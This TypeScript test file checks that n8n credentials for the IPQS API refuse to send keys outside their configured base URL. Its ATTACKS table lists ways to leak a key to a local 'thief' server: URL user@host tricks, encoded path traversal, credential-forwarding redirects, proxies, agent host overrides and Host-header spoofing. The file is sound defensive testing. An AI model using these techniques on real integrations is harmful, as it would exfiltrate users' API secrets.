import * as n8nWorkflow from 'n8n-workflow';
import type { ICredentialType, IDataObject, IExecuteFunctions, IHttpRequestOptions, INodeType } from 'n8n-workflow';
import nock from 'nock';
import { IpqsApi } from '../../credentials/IpqsApi.credentials';
import { IpqsCustomIntegrationApi } from '../../credentials/IpqsCustomIntegrationApi.credentials';
import { createEngine } from '../../scripts/engine';
import { FICTIONAL_KEY, FICTIONAL_SECRET, newAccount, newIntegration } from '../support/ipqs';
import { standIn } from '../support/n8n-nodes/node';
import { startRecordingServer, type RecordedRequest, type RecordingServer } from '../support/recording-server';
import { lookUpLeads, resultsOf } from '../support/workflow';

/** How nodes send requests with a credential: n8n's own HTTP Request node uses the second. */
const HELPERS = ['httpRequestWithAuthentication', 'requestWithAuthentication'] as const;
type Helper = (typeof HELPERS)[number];
type Options = Record<string, unknown>;

/** A credential as most packages write one: it adds its key to any request. Shows that the attacks work. */
class CarelessApi implements ICredentialType {
	name = 'carelessApi';

	displayName = 'Careless API';

	properties = [];

	authenticate = async (_: unknown, request: IHttpRequestOptions): Promise<IHttpRequestOptions> => ({
		...request,
		headers: { ...request.headers, 'IPQS-KEY': FICTIONAL_KEY },
	});
}

let call: { helper: Helper; type: string; options: Options };

const CALLER: INodeType = standIn('caller', async (node: IExecuteFunctions) => {
	const send = node.helpers[call.helper] as (this: IExecuteFunctions, type: string, options: Options) => Promise<unknown>;
	const response = await send.call(node, call.type, call.options);
	return [[{ json: { response: typeof response === 'string' ? response : JSON.stringify(response) } }]];
});

const credentialTypes = {
	ipqsApi: new IpqsApi(),
	ipqsCustomIntegrationApi: new IpqsCustomIntegrationApi(),
	carelessApi: new CarelessApi(),
};
CALLER.description.credentials = Object.keys(credentialTypes).map((name) => ({ name }));
const engine = createEngine({ nodeTypes: { 'test.caller': CALLER }, credentialTypes });

const CREDENTIALS: Record<string, { type: string; data: object }> = {
	'an API key in the header': { type: 'ipqsApi', data: { apiKey: FICTIONAL_KEY, keyLocation: 'header' } },
	'an API key in the path': { type: 'ipqsApi', data: { apiKey: FICTIONAL_KEY, keyLocation: 'path' } },
	'a custom integration': {
		type: 'ipqsCustomIntegrationApi',
		data: { integration: 'ExampleCRM', domain: 'shop.example', secret: FICTIONAL_SECRET },
	},
};

const CARELESS = { type: 'carelessApi', data: {} };

/** Runs a node that sends a request with a credential. */
async function send(helper: Helper, { type, data }: { type: string; data: object }, baseUrl: string, options: Options) {
	call = { helper, type, options: { method: 'POST', body: { phone: '12015550123' }, json: true, ...options } };
	return await engine.run(
		{
			nodes: [
				{ name: 'Start', type: 'n8n-nodes-base.manualTrigger' },
				{ name: 'Caller', type: 'test.caller', credentials: { [type]: { id: '1', name: type } } },
			],
			connections: { Start: { main: [[{ node: 'Caller', type: 'main', index: 0 }]] } },
		},
		{ credentials: { [type]: { ...data, baseUrl } } },
	);
}

let allowed: RecordingServer;
let thief: RecordingServer;

// nock, which other tests use, does not support proxies.
beforeAll(() => nock.restore());

beforeAll(async () => {
	[allowed, thief] = await Promise.all([startRecordingServer(), startRecordingServer()]);
});
afterEach(() => {
	allowed.requests.length = 0;
	thief.requests.length = 0;
});
afterAll(async () => await Promise.all([allowed.close(), thief.close()]));

const SECRETS = [FICTIONAL_KEY, FICTIONAL_SECRET];
const hasSecret = (request: RecordedRequest): boolean => SECRETS.some((secret) => JSON.stringify(request).includes(secret));
const isOutside = ({ path }: RecordedRequest): boolean => !/^\/ipqs(?:\/(?!\.|%)|$)/.test(path);

/** Requests that reached the thief, or the allowed server outside the base URL, with a key. */
const stolen = (): RecordedRequest[] => [...thief.requests, ...allowed.requests.filter(isOutside)].filter(hasSecret);

const LOOKUP = '/ipqs/api/json/phone';

/** Requests that would hand over a key, with the base URL `{allowed}/ipqs`. */
const ATTACKS: Record<string, () => Options> = {
	'another port': () => ({ url: `${thief.url}${LOOKUP}` }),
	'another host': () => ({ url: `http://localhost:${thief.port}${LOOKUP}` }),
	'user@host': () => ({ url: `http://127.0.0.1:${allowed.port}@127.0.0.1:${thief.port}${LOOKUP}` }),
	'an encoded user@host': () => ({ url: `http://127.0.0.1:${allowed.port}%2f%40@127.0.0.1:${thief.port}${LOOKUP}` }),
	backslashes: () => ({ url: `http:\\\\127.0.0.1:${thief.port}\\ipqs\\api` }),
	'a tab and a line break': () => ({ url: `ht\ttp://127.0.0.1:${thief.port}/\n${LOOKUP}` }),
	'a URL in the fragment': () => ({ url: `${thief.url}${LOOKUP}#${allowed.url}/ipqs` }),
	baseURL: () => ({ baseURL: thief.url, url: LOOKUP }),
	'baseURL with an empty path': () => ({ baseURL: `${thief.url}${LOOKUP}`, url: '' }),
	'a full URL with a baseURL': () => ({ baseURL: `${allowed.url}/ipqs`, url: `${thief.url}${LOOKUP}` }),
	'a URL without protocol': () => ({ baseURL: `${allowed.url}/ipqs`, url: `//127.0.0.1:${thief.port}${LOOKUP}` }),
	'a URL object': () => ({ url: new URL(`${thief.url}${LOOKUP}`) }),
	'an object that becomes text': () => ({ url: { toString: () => `${thief.url}${LOOKUP}` } }),
	'a list': () => ({ url: [`${thief.url}${LOOKUP}`] }),
	...Object.fromEntries(
		[
			'/ipqs-evil/api/json/phone',
			'/ipqs/../evil/api/json/phone',
			'/ipqs/%2e%2e/evil/api/json/phone',
			'/ipqs/.%2E/evil/api/json/phone',
			'/ipqs\\..\\evil\\api',
			'/ipqs/.\t./evil/api/json/phone',
			'/ipqs/..%2fevil/api/json/phone',
			'/ipqs/..%5cevil/api/json/phone',
			'/ipqs/%252e%252e%252fevil/api/json/phone',
			'/ipqs/..;/evil/api/json/phone',
			'/evil/api/json/phone',
		].map((path) => [`the path ${JSON.stringify(path)}`, () => ({ url: `${allowed.url}${path}` })]),
	),
	...Object.fromEntries(
		[301, 302, 303, 307, 308].map((status) => [
			`a redirect with status ${status}`,
			() => ({
				url: `${allowed.url}${LOOKUP}/redirect/${status}?to=${encodeURIComponent(`${thief.url}${LOOKUP}`)}`,
				disableFollowRedirect: false,
				followRedirect: true,
				followAllRedirects: true,
				maxRedirects: 21,
				sendCredentialsOnCrossOriginRedirect: true,
			}),
		]),
	),
	'a proxy': () => ({ url: `${allowed.url}${LOOKUP}`, proxy: thief.url }),
	'a proxy as object': () => ({ url: `${allowed.url}${LOOKUP}`, proxy: { protocol: 'http', host: '127.0.0.1', port: thief.port } }),
	'another host of the agent': () => ({ url: `${allowed.url}${LOOKUP}`, agentOptions: { host: '127.0.0.1', port: thief.port } }),
};

const NAMES = ['url', 'uri'] as const;

/** The request with its URL under another name. */
const renamed = ({ url, ...options }: Options, name: (typeof NAMES)[number]): Options => ({ ...options, [name]: url });

describe.each(HELPERS)('%s', (helper) => {
	describe.each(Object.entries(CREDENTIALS))('gives nothing away with %s', (_credential, credential) => {
		it.each(Object.entries(ATTACKS))('by %s', async (_attack, attack) => {
			for (const name of NAMES) {
				for (const method of ['GET', 'POST']) {
					const run = await send(helper, credential, `${allowed.url}/ipqs`, { ...renamed(attack(), name), method });
					expect(stolen()).toEqual([]);
					expect(thief.requests).toEqual([]);
					for (const secret of SECRETS) expect(`${run.saved} ${run.error?.message} ${run.error?.description}`).not.toContain(secret);
				}
			}
		});

		it('by a proxy that decrypts https, whatever makes it look trusted', async () => {
			const proxy = thief.url;
			for (const trust of [
				{ rejectUnauthorized: false },
				{ skipSslCertificateValidation: true },
				{ agentOptions: { rejectUnauthorized: false } },
				{ agentOptions: { ca: thief.certificate } },
				{ agentOptions: { host: '127.0.0.1', port: thief.port } },
			]) {
				for (const name of NAMES) {
					for (const protocol of ['https', 'http']) {
						await send(helper, credential, 'https://ipqs.test', { [name]: `${protocol}://ipqs.test/api/json/phone`, proxy, ...trust });
						expect(thief.requests).toEqual([]);
					}
				}
			}
		});

		it.each([
			'/api/json/url?url=https://thief.test/{key}',
			'/api/json/url/OWN0KEY/https%3A%2F%2Fthief.test%2F{key}',
			'/api/json//url/OWN0KEY/https://thief.test/api/json/url/{key}',
		])('by the URL of a site that IPQS visits: %s', async (path) => {
			await send(helper, credential, `${allowed.url}/ipqs`, { url: `${allowed.url}/ipqs${path}` });
			for (const secret of SECRETS) {
				for (const request of allowed.requests) expect(request.path.split('thief.test')[1]).not.toContain(secret);
			}
		});

		it('by a method whose response repeats the headers', async () => {
			for (const method of ['TRACE', 'trace', 'CONNECT'])
				await send(helper, credential, `${allowed.url}/ipqs`, { url: `${allowed.url}${LOOKUP}`, method });
			expect(allowed.requests).toEqual([]);
		});

		it('by a header that names another host', async () => {
			await send(helper, credential, `${allowed.url}/ipqs`, {
				url: `${allowed.url}${LOOKUP}`,
				headers: { host: 'thief.test', Host: 'thief.test' },
			});
			expect(allowed.requests).toMatchObject([{ headers: { host: `127.0.0.1:${allowed.port}` } }]);
		});

		it('and says what to do', async () => {
			const { error } = await send(helper, credential, `${allowed.url}/ipqs`, { url: `${thief.url}${LOOKUP}` });
			expect(`${error?.message} ${error?.description}`).toContain(
				`This credential only sends requests to ${allowed.url}/ipqs. Change the URL of the request, or 'Base URL' of the credential`,
			);
		});
	});
});

describe('each attack works with a careless credential', () => {
	/** n8n itself, or the URL parser, already stops these. */
	const STOPPED = ['a URL without protocol', 'a list', 'backslashes'];

	it.each(Object.entries(ATTACKS).filter(([attack]) => !STOPPED.includes(attack)))('by %s', async (_attack, attack) => {
		for (const helper of HELPERS) {
			for (const name of NAMES) await send(helper, CARELESS, '', { ...renamed(attack(), name), method: 'GET' });
		}
		expect(stolen().length).toBeGreaterThan(0);
	});

	/** n8n 1.x verifies certificates behind a proxy, whatever the options. Only its n8n-workflow exports this function. */
	const IS_V1 = 'sleepWithAbort' in n8nWorkflow;

	it.each<[string, () => Options]>([
		['ignores certificates', () => ({ rejectUnauthorized: false })],
		['ignores certificates by its agent', () => ({ agentOptions: { rejectUnauthorized: false } })],
		['trusts the proxy', () => ({ agentOptions: { ca: thief.certificate } })],
	])('by a proxy that decrypts https and a request that %s', async (_how, trust) => {
		const options = { url: 'https://ipqs.test/api/json/phone', proxy: thief.url, ...trust() };
		await send('requestWithAuthentication', CARELESS, '', options);
		expect(stolen()).toHaveLength(IS_V1 ? 0 : 1);
	});
});

describe.each(HELPERS)('%s sends the key within the base URL', (helper) => {
	const OWN: Options[] = [
		{ url: '' },
		{ qs: { phone: '1' } },
		{ form: { phone: '1' }, body: undefined },
		{ body: 'phone=1' },
		{ body: undefined },
	];

	it.each(['', '/ipqs', '/ipqs/api/', '/api/json'])('in the header, with the base URL %j', async (path) => {
		const url = `${allowed.url}${path.replace(/\/?(?:api\/?(?:json)?)?$/, '')}/api/json/phone`;
		for (const method of ['GET', 'POST']) {
			const run = await send(helper, CREDENTIALS['an API key in the header']!, `${allowed.url}${path}`, { url, method });
			expect(run.error).toBeUndefined();
		}
		expect(allowed.requests).toMatchObject(['GET', 'POST'].map((method) => ({ method, headers: { 'ipqs-key': FICTIONAL_KEY } })));
	});

	it('in the path', async () => {
		for (const name of helper === 'requestWithAuthentication' ? NAMES : (['url'] as const)) {
			const options = renamed({ url: `${allowed.url}/ipqs/api/json/phone/12015550123?strictness=1`, method: 'GET' }, name);
			await send(helper, CREDENTIALS['an API key in the path']!, `${allowed.url}/ipqs`, options);
		}
		for (const { path } of allowed.requests) expect(path).toBe(`/ipqs/api/json/phone/${FICTIONAL_KEY}/12015550123?strictness=1`);
		expect(allowed.requests.length).toBeGreaterThan(0);
	});

	it.each(OWN)('in the body of a custom integration: %j', async (options) => {
		const url = `${allowed.url}/ipqs/webhooks/ExampleCRM/json/phone_check`;
		const headers = typeof options.body === 'string' ? { 'content-type': 'application/x-www-form-urlencoded' } : {};
		const run = await send(helper, CREDENTIALS['a custom integration']!, `${allowed.url}/ipqs`, { headers, ...options, url });
		expect(run.error).toBeUndefined();
		const sent = allowed.requests[0]?.body ?? '';
		if (helper === 'httpRequestWithAuthentication' && options.form) return;
		expect(sent).toContain(FICTIONAL_SECRET);
		expect(JSON.stringify(allowed.requests[0]?.headers) + allowed.requests[0]?.path).not.toContain(FICTIONAL_SECRET);
	});
});

describe('the lookups of the nodes still work', () => {
	const LEADS = [{ phone: '+1 201 555 0123' }];
	const OPTIONS = ['GET', 'POST'].map((requestMethod) => ({ options: { requestMethod, maxRetries: 0 } }));

	describe.each(['', '/', '/ipqs', '/a/b/', '/ipqs/api', '/ipqs/api/json'])('with the base URL {origin}%s', (path) => {
		it.each(['header', 'path'])('and the key in the %s', async (keyLocation) => {
			for (const parameters of OPTIONS) {
				const run = await lookUpLeads(LEADS, { credentials: newAccount({ keyLocation, baseUrl: `${allowed.url}${path}` }), parameters });
				expect(resultsOf(run)).toMatchObject([{ success: true, valid: true, lookup: { status: 'ok', attempts: 1 } } as IDataObject]);
			}
			expect(allowed.requests).toHaveLength(2);
			expect(allowed.requests.every(hasSecret)).toBe(true);
		});

		it('and a custom integration', async () => {
			const credentials = newIntegration({ baseUrl: `${allowed.url}${path}` });
			const parameters = { authentication: 'customIntegration', options: { maxRetries: 0 } };
			expect(resultsOf(await lookUpLeads(LEADS, { credentials, parameters }))).toMatchObject([{ lookup: { status: 'ok', attempts: 1 } }]);
		});
	});
});

describe('a credential that cannot be used is refused with words, before anything is sent', () => {
	const BAD_SECRETS = [
		'abcd\u200befghijkl',
		'abcdefgh\u2060',
		'cl\u00e9-abcdefgh',
		'\u043a\u043b\u044e\u0447-abcdefgh',
		'abcd\nefgh',
		'abcd\tefgh',
	];
	const CANNOT_BE_SENT =
		'of the credential contains a character that cannot be sent, possibly an invisible one. Copy it again from IPQS [item 0]';

	const messageOf = async (credentials: object, authentication: string) => {
		const { error } = await lookUpLeads([{ phone: '+1 201 555 0123' }], {
			credentials: credentials as never,
			parameters: { authentication },
		});
		expect(allowed.requests).toEqual([]);
		return error?.message;
	};

	it.each(BAD_SECRETS)('the key %j', async (apiKey) => {
		for (const keyLocation of ['header', 'path']) {
			const message = await messageOf(newAccount({ apiKey, keyLocation, baseUrl: allowed.url }), 'apiKey');
			expect(message).toBe(`'API Key' ${CANNOT_BE_SENT}`);
		}
	});

	it.each(BAD_SECRETS)('the secret %j', async (secret) => {
		const message = await messageOf(newIntegration({ secret, baseUrl: allowed.url }), 'customIntegration');
		expect(message).toBe(`'Secret' ${CANNOT_BE_SENT}`);
	});

	it.each<[object, RegExp]>([
		[{ baseUrl: 7 }, /^'Base URL' of the credential must be text such as /],
		[{ baseUrl: ['https://ipqs.test'] }, /^'Base URL' of the credential must be text such as /],
		[{ baseUrl: 'https://ipqs.test/api/json/phone/abcdefgh' }, /^'Base URL' of the credential must end before \/api\/json, /],
		[{ requestsPerSecond: 0.0000001 }, /^'Requests per Second' of the credential must be a number from 0\.1 to 1000, /],
		[{ requestsPerSecond: 1e7 }, /^'Requests per Second' of the credential must be a number from 0\.1 to 1000, /],
		[{ apiKey: { a: 1 } }, /^'API Key' of the credential must be text /],
	])('%j', async (fields, message) => {
		expect(await messageOf(newAccount({ baseUrl: allowed.url, ...fields }), 'apiKey')).toMatch(message);
	});
});
